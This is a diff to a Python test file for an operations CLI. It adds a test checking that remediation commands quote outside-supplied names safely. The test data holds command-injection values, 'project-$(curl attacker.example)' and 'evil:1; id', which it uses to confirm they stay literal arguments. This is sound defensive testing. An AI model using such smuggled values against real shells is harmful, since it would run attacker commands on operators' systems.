@@ -11,7 +11,7 @@ from typer.core import TyperGroup
 
 from ops.cli.app import build
 from ops.doctor.causes import CATALOGUE, NO_EGRESS, Cause, Reason
-from ops.doctor.finding import FINDINGS, Known
+from ops.doctor.finding import FINDINGS, Known, Remediation
 from tests.conftest import ROOT
 
 _OPTIONS = {"evidence", "first", "then", "level", "fix"}
@@ -58,3 +58,11 @@ def test_every_command_exists_and_is_for_the_environment(line: str) -> None:
         command = command.commands[words.pop(0)]
     options = {name for parameter in command.params for name in parameter.opts}
     assert {"--env"} <= {word for word in words if word.startswith("--")} <= options
+
+
+def test_a_name_from_outside_is_one_word_of_a_command() -> None:
+    """An operator copies it into a shell."""
+    asked = Remediation("enable {alarms}", "aws x --alarm-names {alarms} --image {image}")
+    names = ("project-5xx", "project-$(curl attacker.example)")
+    command = asked.filled({"alarms": names, "image": "evil:1; id"}).command
+    assert shlex.split(command) == ["aws", "x", "--alarm-names", *names, "--image", "evil:1; id"]
